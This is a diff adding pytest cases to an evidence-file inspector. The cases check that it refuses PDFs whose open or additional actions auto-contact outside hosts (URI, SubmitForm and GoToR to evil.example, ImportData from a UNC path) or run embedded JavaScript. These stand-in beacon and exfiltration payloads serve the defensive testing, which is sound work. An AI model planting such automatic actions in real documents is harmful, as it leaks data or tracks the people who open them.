@@ -15,7 +15,14 @@ import pytest
 from PIL import Image
 from pypdf import PdfWriter
 from pypdf.actions import JavaScript
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.annotations import Link
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 from isms.files.inspection import InspectedFile, UnacceptableFileError, inspect_file
 
@@ -273,6 +280,126 @@ def test_it_accepts_a_pdf_with_a_plain_open_action(tmp_path: Path) -> None:
     writer._root_object[NameObject("/OpenAction")] = writer._add_object(
         DictionaryObject({NameObject("/S"): NameObject("/GoTo")})
     )
+
+    assert inspect_file(write(tmp_path, pdf_bytes(writer)), filename="p.pdf").extension == "pdf"
+
+
+def action(kind: str, **entries: Any) -> DictionaryObject:
+    """A PDF action dictionary: ``/S`` names its kind, ``entries`` its other keys."""
+    return DictionaryObject(
+        {NameObject("/S"): NameObject(kind)}
+        | {NameObject(f"/{key}"): value for key, value in entries.items()}
+    )
+
+
+# What each action that reaches outside the file needs beside its /S.
+REACHING_OUT: dict[str, dict[str, Any]] = {
+    "URI": {"URI": TextStringObject("https://evil.example/opened?doc=1")},
+    "SubmitForm": {"F": TextStringObject("https://evil.example/collect")},
+    "ImportData": {"F": TextStringObject("\\\\203.0.113.9\\share\\x.fdf")},
+    "GoToR": {"F": TextStringObject("https://evil.example/other.pdf"), "D": ArrayObject()},
+}
+
+
+def reaching_out(kind: str) -> DictionaryObject:
+    return action(f"/{kind}", **REACHING_OUT[kind])
+
+
+@pytest.mark.parametrize("kind", REACHING_OUT)
+def test_it_refuses_an_open_action_that_reaches_outside_the_file(tmp_path: Path, kind: str) -> None:
+    writer = blank_writer()
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(reaching_out(kind))
+
+    message = assert_refused(
+        write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_automatic_action"
+    )
+
+    assert f"by itself when it is opened or viewed (an automatic {kind} action)" in message
+
+
+def test_it_names_what_an_automatic_uri_action_does(tmp_path: Path) -> None:
+    writer = blank_writer()
+    writer._root_object[NameObject("/OpenAction")] = reaching_out("URI")
+
+    message = assert_refused(
+        write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_automatic_action"
+    )
+
+    assert message == (
+        "policy.pdf opens a web address by itself when it is opened or viewed (an automatic URI "
+        "action), which evidence may not; save it again without it (for example by printing it "
+        "to a new PDF)."
+    )
+
+
+@pytest.mark.parametrize("where", ["catalog", "page", "annotation"])
+def test_it_refuses_additional_actions_that_reach_outside_the_file(
+    tmp_path: Path, where: str
+) -> None:
+    writer = blank_writer()
+    triggers = DictionaryObject({NameObject("/WC"): writer._add_object(reaching_out("SubmitForm"))})
+    if where == "catalog":
+        writer._root_object[NameObject("/AA")] = triggers
+    elif where == "page":
+        writer.pages[0][NameObject("/AA")] = writer._add_object(triggers)
+    else:
+        widget = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject("/Widget"),
+                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
+                NameObject("/AA"): DictionaryObject({NameObject("/PO"): reaching_out("URI")}),
+            }
+        )
+        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(widget)])
+
+    assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_automatic_action")
+
+
+def test_it_follows_an_open_action_to_the_actions_it_chains(tmp_path: Path) -> None:
+    writer = blank_writer()
+    uri = writer._add_object(reaching_out("URI"))
+    go_to = action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference]), Next=uri)
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(go_to)
+
+    assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_automatic_action")
+
+
+def test_it_refuses_an_open_action_that_chains_to_itself(tmp_path: Path) -> None:
+    writer = blank_writer()
+    go_to = writer._add_object(action("/GoTo", D=ArrayObject()))
+    go_to.get_object()[NameObject("/Next")] = go_to
+    writer._root_object[NameObject("/OpenAction")] = go_to
+
+    assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "malformed")
+
+
+def test_it_refuses_javascript_in_the_names_tree(tmp_path: Path) -> None:
+    writer = blank_writer()
+    script = writer._add_object(action("/JavaScript", JS=TextStringObject("app.alert(1)")))
+    names = DictionaryObject(
+        {NameObject("/Names"): ArrayObject([TextStringObject("start"), script])}
+    )
+    writer._root_object[NameObject("/Names")] = DictionaryObject(
+        {NameObject("/JavaScript"): writer._add_object(names)}
+    )
+
+    message = assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_active_content")
+
+    assert "JavaScript" in message
+
+
+def test_it_accepts_an_open_action_that_is_a_page_of_the_document(tmp_path: Path) -> None:
+    writer = blank_writer()
+    page = writer.pages[0].indirect_reference
+    writer._root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])
+
+    assert inspect_file(write(tmp_path, pdf_bytes(writer)), filename="p.pdf").extension == "pdf"
+
+
+def test_it_accepts_a_link_the_reader_clicks_to_the_web(tmp_path: Path) -> None:
+    writer = blank_writer()
+    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://www.iso.org/"))
 
     assert inspect_file(write(tmp_path, pdf_bytes(writer)), filename="p.pdf").extension == "pdf"
 
